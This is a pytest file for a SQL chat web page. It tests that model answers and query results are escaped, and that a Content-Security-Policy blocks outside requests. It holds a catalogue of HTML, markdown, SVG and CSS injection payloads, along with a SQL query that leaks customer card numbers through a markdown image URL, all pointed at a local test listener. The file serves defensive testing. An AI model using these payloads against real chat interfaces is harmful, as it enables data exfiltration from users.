"""`sqlsft chat`: message parsing, result panels, server errors, the CLI, and the page in a real browser."""

import html.parser
import itertools
import os
import re
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from pathlib import Path

import pytest

from sqlsft.chat.app import CONTENT_SECURITY_POLICY, parse_auth, serve_page
from sqlsft.chat.page import build_app
from sqlsft.chat.render import answer_html, page_message, result_html, user_html
from sqlsft.chat.target import ChatTarget, ServerProblem, resolve_target, stream_answer
from sqlsft.chat.turns import build_turn, parse_workshop_message
from sqlsft.common.errors import SqlsftError
from sqlsft.common.openai_target import redact_url
from sqlsft.data.prompts import load_templates, prompt_messages
from tests.cli_runner import SQLSFT, invoke, one_error_line
from tests.scripted_model import ScriptedServer

SCHEMA = (
    "CREATE TABLE employees (id INT PRIMARY KEY, name VARCHAR(50), dept VARCHAR(20));\n"
    "INSERT INTO employees VALUES (1, 'Ann', 'eng'), (2, 'Bob', 'eng'), (3, 'Cid', 'ops');"
)
SCRIPTED_ANSWER = "SELECT COUNT(*) FROM employees"
API_KEY = "sk-test-never-shown-4711"

# ---------------------------------------------------------------- hostile text
# Every way a piece of text could make a browser fetch a URL, as a model might write it or a query
# might return it. `{H}` is the origin that must never be contacted; each route has its own path, so a
# leak names its route.
ROUTES = {
    "md-image": "![x]({H}/md-image?d=secret)",
    "md-ref-image": "![x][ref]\n\n[ref]: {H}/md-ref-image",
    "md-link": "[click]({H}/md-link)",
    "autolink": "<{H}/autolink>",
    "img": "<img src={H}/img>",
    "img-quoted": '<img src="{H}/img-quoted" alt="x">',
    "image-tag": "<image src={H}/image-tag>",
    "srcset": '<img srcset="{H}/srcset 1x, {H}/srcset-2x 2x">',
    "picture": '<picture><source srcset="{H}/picture"><img src="data:,"></picture>',
    "protocol-relative": '<img src="//{HOST}/protocol-relative">',
    "entity-url": '<img src="&#104;ttp://{HOST}/entity-url">',
    "onerror": "<img src=x onerror=\"fetch('{H}/onerror')\">",
    "script": '<script src="{H}/script"></script><script>fetch("{H}/inline-script")</script>',
    "iframe": '<iframe src="{H}/iframe"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<img src={H}/srcdoc>"></iframe>',
    "embed": '<embed src="{H}/embed">',
    "object": '<object data="{H}/object"></object>',
    "video": '<video src="{H}/video" poster="{H}/poster" autoplay></video>',
    "audio": '<audio src="{H}/audio" autoplay></audio>',
    "source-track": '<video autoplay><source src="{H}/source"><track src="{H}/track"></video>',
    "link-css": '<link rel="stylesheet" href="{H}/link-css">',
    "link-hints": '<link rel="prefetch" href="{H}/prefetch"><link rel="preload" as="image" href="{H}/preload">'
    '<link rel="preconnect" href="{H}"><link rel="dns-prefetch" href="{H}"><link rel="icon" href="{H}/icon">',
    "style-import": '<style>@import url("{H}/style-import");</style>',
    "style-background": '<style>body { background: url("{H}/style-background") }</style>',
    "style-attribute": "<div style=\"background-image: url('{H}/style-attribute')\">x</div>",
    "svg-image": '<svg><image href="{H}/svg-image" width="9" height="9"/></svg>',
    "svg-use": '<svg><use href="{H}/svg-use#a"/></svg>',
    "svg-feimage": '<svg><filter id="f"><feImage href="{H}/svg-feimage"/></filter>'
    '<rect filter="url(#f)" width="9" height="9"/></svg>',
    "svg-style": "<svg><style>@import url({H}/svg-style);</style></svg>",
    "math-mglyph": '<math><mglyph src="{H}/mglyph"></mglyph></math>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url={H}/meta-refresh">',
    "background-attribute": '<table background="{H}/table-background"><tr>'
    '<td background="{H}/td-background">x</td></tr></table><body background="{H}/body-background">',
    "input-image": '<input type="image" src="{H}/input-image">',
    "base": '<base href="{H}/base/"><img src="relative.png">',
    "form": '<form action="{H}/form"><button>go</button></form>',
    "ping": '<a href="{H}/anchor" ping="{H}/ping">a</a>',
    "escape-the-table": "</td></tr></table></div>\n\n![x]({H}/after-the-table)",
    "blank-lines": "total\n\n![c]({H}/after-blank-lines)",
    "page-markup": '<div class="sqlsft-result"><img src="{H}/page-markup"></div>',
}
# Only in the answer's prose: a LaTeX or mermaid renderer would act on them.
PROSE_ONLY = {
    "latex": "$$\\includegraphics{{H}/katex}$$ $$\\href{{H}/katex-href}{x}$$",
    "mermaid": '```mermaid\ngraph TD\nA-->B\nclick A href "{H}/mermaid"\n```',
}
CUSTOMERS = (
    "CREATE TABLE customers (name TEXT, card TEXT); INSERT INTO customers VALUES "
    "('alice', '4111-1111'), ('bob', '5500-0000'), ('<img src={H}/schema-value>', '0');"
)


def hostile(template: str, origin: str) -> str:
    return template.replace("{H}", origin).replace("{HOST}", origin.removeprefix("http://"))


def sql_string(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"


def hostile_prose(origin: str) -> str:
    return "\n".join(hostile(t, origin) for t in [*ROUTES.values(), *PROSE_ONLY.values()])


def hostile_cells_sql(origin: str) -> str:
    """One row whose cells (and a column name) carry every route, plus the issue's leak of the customers."""
    leak = (
        f"'total'||char(10)||char(10)||'![c]({origin}/x?d='"
        "||(SELECT group_concat(name||':'||card) FROM customers)||')' AS leak"
    )
    cells = [f"{sql_string(hostile(t, origin))} AS route_{i}" for i, t in enumerate(ROUTES.values())]
    header = f'1 AS "<img src={origin}/column-name>"'
    return "SELECT " + ",\n  ".join([leak, header, *cells])


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


class _InertHTML(html.parser.HTMLParser):
    """The tags and attributes of an HTML fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)

    def handle_data(self, data) -> None:
        self.text += data


PAGE_TAGS = {"div", "pre", "code", "table", "thead", "tbody", "tr", "th", "td", "span", "i", "b", "br"}


def assert_inert(fragment: str) -> str:
    """The fragment uses only the page's own tags, with no attribute but class and no raw line break;
    returns its text."""
    parsed = _InertHTML()
    parsed.feed(fragment)
    parsed.close()
    assert parsed.tags <= PAGE_TAGS, parsed.tags - PAGE_TAGS
    assert parsed.attributes <= {"class"}, parsed.attributes
    assert "\n" not in fragment and "\r" not in fragment
    return parsed.text


# ---------------------------------------------------------------- quick tests


def test_parse_workshop_message():
    templates = load_templates()
    rendered = prompt_messages(templates, "How many employees?", SCHEMA)[1]["content"]
    question, schema = parse_workshop_message(rendered)
    assert question == "How many employees?"
    assert "CREATE TABLE employees" in schema and "```" not in schema
    assert parse_workshop_message("Prompt: list them\nSchema: CREATE TABLE t (a INT)") == (
        "list them",
        "CREATE TABLE t (a INT)",
    )
    assert parse_workshop_message("How many employees?") is None


def test_a_pasted_workshop_message_is_sent_as_is():
    """sqlparse's reindent is not idempotent (a one-line schema gains blank lines when formatted twice),
    so a message already in the workshop format must reach the model unchanged."""
    templates = load_templates()
    one_line = "CREATE TABLE a (x INT); INSERT INTO a VALUES (1); CREATE TABLE b (y INT);"
    pasted = prompt_messages(templates, "How many rows are in a?", one_line)[1]["content"]
    assert prompt_messages(templates, *parse_workshop_message(pasted))[1]["content"] != pasted
    turn = build_turn(templates, pasted, "ignored when the message brings its own schema")
    assert turn.user_message == pasted and "INSERT INTO a" in turn.schema
    assert turn.messages[0] == prompt_messages(templates, "", "")[0]
    typed = build_turn(templates, "How many rows are in a?", one_line)
    assert typed.user_message == pasted and typed.schema == one_line
    with ScriptedServer() as server:
        list(stream_answer(ChatTarget(server.url), turn.messages, 8))
    assert server.requests[-1]["messages"][1]["content"] == pasted


ADVERSARIAL_TEXTS = """
n = 1_000_000
texts = [
    "Prompt:" + "\\n" * n + "x",
    "Prompt: q\\n" + (" " * 50 + "\\n") * (n // 51),
    "Prompt: q\\nSchema:\\n```" + " " * n,
    "Prompt: q\\nSchema:\\n" + "```" * (n // 3),
    "```\\n" * (n // 4),
    "   " * (n // 3) + "```",
    "`" * n,
]
"""


def test_parsing_and_rendering_take_linear_time():
    """A megabyte of text shaped to make a backtracking pattern explode (blank lines, fence markers,
    spaces) is parsed and rendered in well under a second each."""
    script = (
        "import time\n"
        "from sqlsft.chat.render import answer_html, page_message, user_html\n"
        "from sqlsft.chat.turns import parse_workshop_message\n"
        f"{ADVERSARIAL_TEXTS}\n"
        "for text in texts:\n"
        "    for call in (parse_workshop_message, answer_html, user_html, lambda t: page_message('note', t)):\n"
        "        started = time.monotonic()\n"
        "        call(text)\n"
        "        assert time.monotonic() - started < 1.0, (text[:20], call)\n"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr


def test_resolve_target_with_url_and_keys(monkeypatch):
    monkeypatch.delenv("SQLSFT_API_KEY", raising=False)
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    target = resolve_target("http://127.0.0.1:8000/v1/", None, None)
    assert (target.url, target.model, target.api_key) == ("http://127.0.0.1:8000/v1", "local", "EMPTY")
    monkeypatch.setenv("OPENAI_API_KEY", "from-openai-env")
    assert resolve_target("http://h/v1", "m", None).api_key == "from-openai-env"
    monkeypatch.setenv("SQLSFT_API_KEY", "from-sqlsft-env")
    assert resolve_target("http://h/v1", "m", None).api_key == "from-sqlsft-env"
    assert resolve_target("http://h/v1", "m", "explicit").api_key == "explicit"
    with pytest.raises(SqlsftError, match="not an http"):
        resolve_target("localhost:8000", None, None)
    assert redact_url("https://user:pw@host:9/v1") == "https://host:9/v1"


def test_resolve_target_without_a_server_says_what_to_do():
    with pytest.raises(SqlsftError) as info:
        resolve_target(None, None, None)  # the test session's state folder records no server
    assert "sqlsft serve" in str(info.value) and "--url" in str(info.value)


def test_parse_auth():
    assert parse_auth(None) is None
    assert parse_auth("ann:s3:cret") == ("ann", "s3:cret")
    for bad in ("ann", "ann:", ":pw"):
        with pytest.raises(SqlsftError, match="USER:PASSWORD"):
            parse_auth(bad)


def test_result_panel_shows_table_errors_and_escapes_values():
    table = result_html("```sql\nSELECT name, id FROM employees WHERE dept = 'eng' ORDER BY id\n```", SCHEMA)
    assert "<th>name</th>" in table and "<td>Ann</td>" in table and "2 rows" in table
    assert "SELECT name, id FROM employees" in table
    error = result_html("SELECT nope FROM employees", SCHEMA)
    assert "SQLite error" in error and "no such column" in error
    assert "No SQL found" in result_html("I am not sure.", SCHEMA)
    assert "Schema" in result_html("SELECT 1", "CREATE TABLE (")
    hostile_value = result_html("SELECT '<script>alert(1)</script>' AS x", SCHEMA)
    assert "<script>" not in hostile_value and "&lt;script&gt;" in hostile_value
    assert "Refused" in result_html("SELECT load_extension('x')", SCHEMA)


def test_result_panel_compares_with_the_expected_query():
    match = result_html(SCRIPTED_ANSWER, SCHEMA, expected="SELECT COUNT(id) FROM employees")
    assert "✓ Match" in match and "Expected" in match
    wider = result_html("SELECT id, name FROM employees", SCHEMA, expected="SELECT name FROM employees")
    assert "with extra columns" in wider
    mismatch = result_html(
        SCRIPTED_ANSWER, SCHEMA, expected="SELECT COUNT(*) FROM employees WHERE dept = 'eng'"
    )
    assert "✗ Mismatch" in mismatch
    assert "no SQL in the answer" in result_html("no idea", SCHEMA, expected="SELECT 1")
    ordered = result_html(
        "SELECT id FROM employees ORDER BY id DESC", SCHEMA, expected="SELECT id FROM employees ORDER BY id"
    )
    assert "✗ Mismatch" in ordered
    # Beyond the 1,000 rows kept, a cut result is never called a match on the rows it kept.
    counting = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c LIMIT 1500) SELECT x FROM c"
    assert "✗ Mismatch" in result_html(counting + " WHERE x <= 1200", SCHEMA, expected=counting)
    assert "✓ Match" in result_html(counting, SCHEMA, expected=counting)


def test_answers_results_and_messages_are_inert_html():
    """Whatever the model writes or a query returns becomes text: only the page's own tags, no attribute
    but class, no raw line break (so not even a markdown renderer could find a block to parse)."""
    origin = "http://127.0.0.1:9"
    prose = hostile_prose(origin)
    answer = f"{prose}\n```sql\n{hostile_cells_sql(origin)}\n```"
    shown = assert_inert(answer_html(answer))
    assert all(hostile(route, origin).replace("\n", "") in shown for route in ROUTES.values())
    schema = hostile(CUSTOMERS, origin)
    panel = result_html(answer, schema, expected=hostile_cells_sql(origin))
    text = assert_inert(panel)
    assert "✓ Match" in text and "alice:4111-1111,bob:5500-0000" in text
    assert f"![c]({origin}/x?d=" in text and f"<img src={origin}/column-name>" in text
    for problem in (
        result_html(f'SELECT * FROM "<img src={origin}/sqlite-error>"', schema),
        result_html(
            "SELECT 1", f'CREATE TABLE t (a INT); INSERT INTO "<img src={origin}/schema-error>" VALUES (1);'
        ),
    ):
        assert f"<img src={origin}/" in assert_inert(problem)
    assert_inert(page_message("error", f"The server said: {prose}")["content"])
    assert "<" not in user_html(prose).replace("&lt;", "")


def test_server_down_is_a_readable_problem():
    target = ChatTarget(f"http://127.0.0.1:{free_port()}/v1", "local", API_KEY, "--url")
    with pytest.raises(ServerProblem) as info:
        list(stream_answer(target, [{"role": "user", "content": "hi"}], 8))
    message = str(info.value)
    assert message.startswith("Cannot reach the model server") and "sqlsft serve" in message
    assert API_KEY not in message


def test_a_wrong_model_name_is_explained_with_the_served_names():
    with ScriptedServer(model="scripted") as server, pytest.raises(ServerProblem) as info:
        list(stream_answer(ChatTarget(server.url, "no-such-model"), [{"role": "user", "content": "q"}], 8))
    assert "does not serve a model named 'no-such-model'" in str(info.value)
    assert "It serves: scripted" in str(info.value) and "--model-name" in str(info.value)


def test_cli_errors_are_one_line():
    line = one_error_line(invoke("chat"))
    assert "No model server is running" in line and "--url" in line
    url = ["--url", "http://127.0.0.1:9/v1"]
    for port in ("99999", "0", "-1", "65536"):
        line = one_error_line(invoke("chat", *url, "--port", port))
        assert f"Port {port} is out of range" in line, line
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        line = one_error_line(invoke("chat", *url, "--port", str(port)))
    assert f"Cannot listen on 127.0.0.1:{port}" in line and "--port" in line


def test_model_name_is_the_option_and_model_a_hidden_alias():
    shown = invoke("chat", "--help").stdout
    assert "--model-name" in shown and not re.search(r"--model\b(?!-)", shown)
    line = one_error_line(invoke("chat", "--model", "x", "--port", "99999"))  # still accepted
    assert "out of range" in line


# ---------------------------------------------------------------- pages in a browser


def _wait_for_page(url: str, chat: tuple[subprocess.Popen, Path], timeout_s: float = 180) -> None:
    proc, log = chat
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            pytest.fail(f"sqlsft chat exited with {proc.returncode}:\n{log.read_text()}")
        try:
            with urllib.request.urlopen(url, timeout=2):
                return
        except OSError:
            time.sleep(0.5)
    pytest.fail(f"sqlsft chat did not answer at {url} within {timeout_s} s:\n{log.read_text()}")


def _start_chat(args: list[str], folder: Path, env: dict) -> tuple[subprocess.Popen, Path]:
    log = folder / f"chat-{args[args.index('--port') + 1]}.log"
    with log.open("w") as handle:
        return subprocess.Popen(
            [SQLSFT, "chat", *args], stdout=handle, stderr=subprocess.STDOUT, env=env
        ), log


def _stop(proc: subprocess.Popen) -> None:
    proc.terminate()
    try:
        proc.wait(timeout=15)
    except subprocess.TimeoutExpired:
        proc.kill()


@pytest.fixture(scope="module")
def chat_pages(tiny_model_dir, tmp_path_factory):
    """A model served by `sqlsft serve --engine transformers` and two `sqlsft chat` pages: one talking to it
    (named with the old `--model` spelling), one pointed at a port where nothing listens (behind --auth).
    The pages start while the model loads."""
    from tests.scripted_model import build_scripted_model

    work = tmp_path_factory.mktemp("chat")
    env = {**os.environ, "SQLSFT_API_KEY": API_KEY, "GRADIO_ANALYTICS_ENABLED": "False"}
    serve_env = {k: v for k, v in env.items() if k != "SQLSFT_API_KEY"}  # transformers serve takes no key
    down_port, serve_port, live_port = free_port(), free_port(), free_port()
    api = f"http://127.0.0.1:{serve_port}/v1"
    auth = ["--auth", "tester:pw-4711"]
    down = _start_chat(
        ["--url", f"http://127.0.0.1:{free_port()}/v1", "--port", str(down_port), *auth], work, env
    )
    live = _start_chat(
        ["--url", api, "--model", "local", "--port", str(live_port), "--max-tokens", "32"], work, serve_env
    )
    try:
        model_dir = build_scripted_model(tiny_model_dir, work / "scripted", SCRIPTED_ANSWER)
        served = subprocess.run(
            [
                SQLSFT,
                "serve",
                str(model_dir),
                "--engine",
                "transformers",
                "--port",
                str(serve_port),
                "--detach",
            ],
            capture_output=True,
            text=True,
            env=serve_env,
            timeout=600,
        )
        assert served.returncode == 0, served.stdout + served.stderr
        _wait_for_page(f"http://127.0.0.1:{down_port}/", down)
        _wait_for_page(f"http://127.0.0.1:{live_port}/", live)
        yield {"live": f"http://127.0.0.1:{live_port}/", "down": f"http://127.0.0.1:{down_port}/", "api": api}
    finally:
        for proc, _ in (down, live):
            _stop(proc)
        subprocess.run([SQLSFT, "server", "stop", "--port", str(serve_port)], env=serve_env, timeout=60)


class OriginListener:
    """An HTTP server on another port of 127.0.0.1 (another origin for the browser) that records every
    connection and request it gets: the place hostile text tries to make the page contact."""

    def __init__(self) -> None:
        import http.server

        self.connections: list[tuple] = []
        self.paths: list[str] = []
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args) -> None:
                pass

            def __getattr__(self, name: str):
                if not name.startswith("do_"):
                    raise AttributeError(name)
                return self._record

            def _record(self) -> None:
                listener.paths.append(f"{self.command} {self.path}")
                self.send_response(204)
                self.end_headers()

        class Server(http.server.ThreadingHTTPServer):
            def verify_request(self, request, client_address) -> bool:
                listener.connections.append(client_address)
                return True

        self._http = Server(("127.0.0.1", 0), Handler)
        self.origin = f"http://127.0.0.1:{self._http.server_address[1]}"
        threading.Thread(target=self._http.serve_forever, daemon=True).start()

    def forget(self) -> None:
        self.connections.clear()
        self.paths.clear()

    def assert_untouched(self) -> None:
        assert self.paths == [] and self.connections == [], (self.paths, self.connections)

    def close(self) -> None:
        self._http.shutdown()
        self._http.server_close()


@pytest.fixture(scope="module")
def listener():
    origin = OriginListener()
    yield origin
    origin.close()


@pytest.fixture(scope="module")
def hostile_page(listener, tmp_path_factory):
    """`sqlsft chat` against a scripted server whose answers carry every route to `listener`."""
    origin = listener.origin
    cells = f"```sql\n{hostile_cells_sql(origin)}\n```"
    answers = {
        "hostile cells": f"{hostile_prose(origin)}\n{cells}",
        "hostile error": f'{hostile_prose(origin)}\n```sql\nSELECT * FROM "<img src={origin}/sqlite-error>"\n```',
    }
    work = tmp_path_factory.mktemp("hostile-chat")
    server = ScriptedServer(answers, default="SELECT 1", model="scripted")
    port = free_port()
    env = {**os.environ, "GRADIO_ANALYTICS_ENABLED": "False"}
    chat = _start_chat(["--url", server.url, "--model-name", "scripted", "--port", str(port)], work, env)
    try:
        _wait_for_page(f"http://127.0.0.1:{port}/", chat)
        yield {"url": f"http://127.0.0.1:{port}/", "server": server, "origin": origin}
    finally:
        _stop(chat[0])
        server.close()


# Records what the page's Content-Security-Policy blocked (added by the browser driver, outside the CSP).
RECORD_CSP_VIOLATIONS = (
    "window.cspViolations = [];"
    "document.addEventListener('securitypolicyviolation', e => "
    "window.cspViolations.push(e.violatedDirective + ' ' + e.blockedURI + ' ' + e.sourceFile));"
)


def _open(browser, url: str, width: int = 1280, height: int = 1000):
    page = browser.new_page(viewport={"width": width, "height": height})
    page.add_init_script(RECORD_CSP_VIOLATIONS)
    response = page.goto(url)
    assert response.headers.get("content-security-policy") == CONTENT_SECURITY_POLICY
    return page


def _csp_violations(page) -> list[str]:
    return page.evaluate("window.cspViolations")


def _ask(page, question: str, schema: str, expected: str = "") -> None:
    page.locator("#sqlsft-question textarea").fill(question)
    page.locator("#sqlsft-schema textarea").fill(schema)
    page.locator("#sqlsft-expected textarea").fill(expected)
    page.locator("#sqlsft-send").click()


@pytest.mark.slow
def test_served_model_streams_and_wrong_names_are_explained(chat_pages):
    target = ChatTarget(chat_pages["api"], "local", "EMPTY", "--url")
    messages = prompt_messages(load_templates(), "How many employees are there?", SCHEMA)
    pieces = list(stream_answer(target, messages, 32))
    assert pieces[-1] == SCRIPTED_ANSWER
    assert len(pieces) >= 3 and all(
        later.startswith(earlier) for earlier, later in itertools.pairwise(pieces)
    )
    recorded = resolve_target(None, None, None)  # what `sqlsft chat` without --url connects to
    assert (recorded.url, recorded.model) == (chat_pages["api"], "local") and "recorded" in recorded.source
    wrong = ChatTarget(chat_pages["api"], "no-such-model", "EMPTY", "--url")
    with pytest.raises(ServerProblem, match="does not serve a model named 'no-such-model'"):
        list(stream_answer(wrong, messages, 8))


@pytest.mark.slow
def test_page_answers_runs_the_sql_and_compares(chat_pages, browser, artifacts_dir):
    page = _open(browser, chat_pages["live"])
    _ask(page, "How many employees are there?", SCHEMA, expected="SELECT COUNT(id) FROM employees")
    verdict = page.locator(".sqlsft-verdict").first
    verdict.wait_for(timeout=60_000)
    assert "✓ Match" in verdict.inner_text()
    chat = page.locator("#sqlsft-chatbot")
    assert SCRIPTED_ANSWER in chat.inner_text()  # the streamed answer
    assert "How many employees are there?" in chat.inner_text()
    tables = page.locator(".sqlsft-table")
    assert tables.count() == 2 and "3" in tables.first.inner_text()
    page.screenshot(path=str(artifacts_dir / "chat-answer.png"), full_page=True)
    # The same question on a schema that does not build: the panel says so.
    _ask(page, "And now?", "CREATE TABLE (")
    page.locator(".sqlsft-result .sqlsft-bad").first.wait_for(timeout=60_000)
    assert "Schema" in page.locator(".sqlsft-result").last.inner_text()
    page.screenshot(path=str(artifacts_dir / "chat-schema-error.png"), full_page=True)
    assert API_KEY not in page.content()
    assert _csp_violations(page) == []  # Gradio works under the policy
    page.close()


@pytest.mark.slow
def test_page_when_the_server_is_down(chat_pages, browser, artifacts_dir):
    page = _open(browser, chat_pages["down"], width=420, height=900)  # a narrow window
    page.get_by_label("username").fill("tester")
    page.get_by_label("password").fill("pw-4711")
    page.get_by_role("button", name="Login").click()
    page.locator("#sqlsft-question textarea").wait_for(timeout=30_000)
    _ask(page, "How many employees are there?", SCHEMA)
    error = page.locator(".sqlsft-error").first
    error.wait_for(timeout=60_000)
    assert "Cannot reach the model server" in error.inner_text()
    assert API_KEY not in page.content() and "pw-4711" not in page.content()
    assert _csp_violations(page) == []
    page.screenshot(path=str(artifacts_dir / "chat-server-down-narrow.png"), full_page=True)
    page.close()


@pytest.mark.slow
def test_page_retry_and_undo(chat_pages, browser, artifacts_dir):
    page = _open(browser, chat_pages["live"])
    _ask(page, "How many employees are there?", SCHEMA, expected="SELECT COUNT(id) FROM employees")
    verdicts = page.locator("#sqlsft-chatbot .sqlsft-verdict")
    verdicts.first.wait_for(timeout=60_000)
    assert "✓ Match" in verdicts.first.inner_text()
    # Retry answers the same question again, compared with what the expected box holds now.
    page.locator("#sqlsft-expected textarea").fill("SELECT COUNT(*) FROM employees WHERE dept = 'ops'")
    page.locator("#sqlsft-chatbot").get_by_role("button", name="Retry").last.click()
    page.locator("#sqlsft-chatbot .sqlsft-verdict.sqlsft-mismatch").wait_for(timeout=60_000)
    assert verdicts.count() == 1  # the old answer was replaced, not added to
    assert page.locator("#sqlsft-chatbot").inner_text().count("How many employees are there?") == 1
    page.screenshot(path=str(artifacts_dir / "chat-retry.png"), full_page=True)
    # Undo takes the turn back and puts the question back in the box.
    page.locator("#sqlsft-chatbot").get_by_role("button", name="Undo").last.click()
    page.wait_for_function(
        "() => document.querySelector('#sqlsft-question textarea').value.includes('How many employees')",
        timeout=30_000,
    )
    assert verdicts.count() == 0
    page.close()


@pytest.mark.slow
def test_hostile_answers_and_results_load_nothing_from_another_origin(
    hostile_page, listener, browser, artifacts_dir
):
    """Issue 11 section 1: a model answer and query results that try every way to make the browser
    fetch a URL (and the issue's leak of a customers table through a result cell) are shown as text;
    the other origin gets no request, and the page's CSP had nothing to block."""
    origin = hostile_page["origin"]
    listener.forget()
    page = _open(browser, hostile_page["url"])
    schema = hostile(CUSTOMERS, origin)
    _ask(page, "hostile cells\n" + hostile_prose(origin), schema, expected=hostile_cells_sql(origin))
    page.locator("#sqlsft-chatbot .sqlsft-verdict").first.wait_for(timeout=60_000)
    _ask(page, "hostile error", schema, expected=f'SELECT * FROM "<img src={origin}/expected-error>"')
    page.locator("#sqlsft-chatbot .sqlsft-verdict").nth(1).wait_for(timeout=60_000)
    broken = f'CREATE TABLE t (a INT); INSERT INTO "<img src={origin}/schema-error>" VALUES (1);'
    _ask(page, "a broken schema", broken)
    page.locator("#sqlsft-chatbot .sqlsft-result").nth(2).wait_for(timeout=60_000)
    for index in range(page.locator("#sqlsft-chatbot .sqlsft-table").count()):  # scroll everything into view
        page.locator("#sqlsft-chatbot .sqlsft-table").nth(index).scroll_into_view_if_needed()
    page.wait_for_timeout(2_000)  # time for anything lazy to load
    page.screenshot(path=str(artifacts_dir / "chat-hostile.png"), full_page=True)

    chat = page.locator("#sqlsft-chatbot")
    assert "✓ Match" in chat.locator(".sqlsft-verdict").first.inner_text()
    leak = chat.locator(".sqlsft-table td", has_text="alice:4111-1111,bob:5500-0000")
    assert leak.count() == 2  # the model's and the expected table: the value stayed in its cell
    assert f"![c]({origin}/x?d=" in leak.first.inner_text()
    assert chat.locator(".sqlsft-table th", has_text=f"<img src={origin}/column-name>").count() == 2
    shown = chat.inner_text()
    for route in ("sqlite-error", "expected-error", "schema-error", "md-image", "iframe", "svg-image"):
        assert f"{origin}/{route}" in shown, route
    loaders = "img, image, iframe, video, audio, source, object, embed, svg, link, style, meta, base, [style]"
    messages = chat.locator(".message-content")
    assert (
        messages.count() >= 6 and messages.locator(loaders).evaluate_all("e => e.map(x => x.outerHTML)") == []
    )
    listener.assert_untouched()
    assert _csp_violations(page) == []  # escaping left nothing for the policy to block

    # The second wall: markup that does reach the page (here injected by the test) still loads nothing.
    page.evaluate(
        """origin => {
            const add = (tag, attrs) => { const e = document.createElement(tag);
                Object.assign(e, attrs); document.body.appendChild(e); };
            add('img', {src: origin + '/csp-img'});
            add('iframe', {src: origin + '/csp-iframe'});
            add('link', {rel: 'stylesheet', href: origin + '/csp-css'});
            fetch(origin + '/csp-fetch').catch(() => {});
        }""",
        origin,
    )
    page.wait_for_timeout(1_000)
    blocked = " ".join(_csp_violations(page))
    for directive in ("img-src", "frame-src", "style-src", "connect-src"):
        assert directive in blocked, blocked
    # Chromium may open (and drop) a connection for the blocked frame; no request goes out.
    assert listener.paths == []
    page.close()


@pytest.mark.slow
def test_every_response_of_the_page_carries_the_policy(hostile_page):
    base = hostile_page["url"]
    with urllib.request.urlopen(base, timeout=10) as response:
        page = response.read().decode()
    asset = re.search(r"""(?:src|href)="\.?/?(assets/[^"]+\.(?:js|css))\"""", page)
    paths = ["", "config", "gradio_api/info", "theme.css", "no-such-page"] + (
        [asset.group(1)] if asset else []
    )
    assert asset, "no asset link found in the page"
    for path in paths:
        try:
            with urllib.request.urlopen(base + path, timeout=10) as response:
                headers = response.headers
        except urllib.error.HTTPError as error:
            headers = error.headers
        assert headers.get("Content-Security-Policy") == CONTENT_SECURITY_POLICY, path
        assert headers.get("X-Content-Type-Options") == "nosniff", path


@pytest.mark.slow
def test_page_sends_a_pasted_workshop_message_as_is(hostile_page, browser):
    templates = load_templates()
    one_line = "CREATE TABLE a (x INT); INSERT INTO a VALUES (1); CREATE TABLE b (y INT);"
    pasted = prompt_messages(templates, "How many rows are in a?", one_line)[1]["content"]
    page = _open(browser, hostile_page["url"])
    _ask(page, pasted, "")
    page.locator("#sqlsft-chatbot .sqlsft-result").first.wait_for(timeout=60_000)
    assert hostile_page["server"].requests[-1]["messages"][1]["content"] == pasted
    assert "1 row" in page.locator("#sqlsft-chatbot .sqlsft-result").first.inner_text()  # ran on its schema
    # Undo puts back what was pasted; sending it again sends the same message.
    page.locator("#sqlsft-chatbot").get_by_role("button", name="Undo").last.click()
    page.wait_for_function(
        "() => document.querySelector('#sqlsft-question textarea').value.startsWith('Prompt:')",
        timeout=30_000,
    )
    assert page.locator("#sqlsft-question textarea").input_value() == pasted
    page.locator("#sqlsft-send").click()
    page.locator("#sqlsft-chatbot .sqlsft-result").first.wait_for(timeout=60_000)
    assert hostile_page["server"].requests[-1]["messages"][1]["content"] == pasted
    page.close()


@pytest.mark.slow
def test_examples_from_a_data_set_are_shown_as_text(listener, browser):
    """Example questions come from a prepared data set, not from the user: the page shows them as text."""
    origin = listener.origin
    listener.forget()
    routes = ["img", "md-image", "svg-image", "iframe", "style-attribute", "link-css"]
    examples = [
        {
            "sql_prompt": hostile(ROUTES[r], origin),
            "sql_context": "CREATE TABLE t (a INT);",
            "sql": "SELECT a FROM t",
        }
        for r in routes
    ]
    with ScriptedServer() as server:
        demo = build_app(ChatTarget(server.url), load_templates(), examples)
        serve_page(demo, host="127.0.0.1", port=free_port())
        try:
            page = _open(browser, demo.local_url)
            page.get_by_text(f"{origin}/md-image").first.wait_for(timeout=30_000)
            page.get_by_text(f"{origin}/svg-image").first.click()
            page.wait_for_function(
                "() => document.querySelector('#sqlsft-question textarea').value.includes('svg-image')",
                timeout=30_000,
            )
            assert page.locator("#sqlsft-question textarea").input_value() == examples[2]["sql_prompt"]
            listener.assert_untouched()
            assert _csp_violations(page) == []
            page.close()
        finally:
            demo.close()
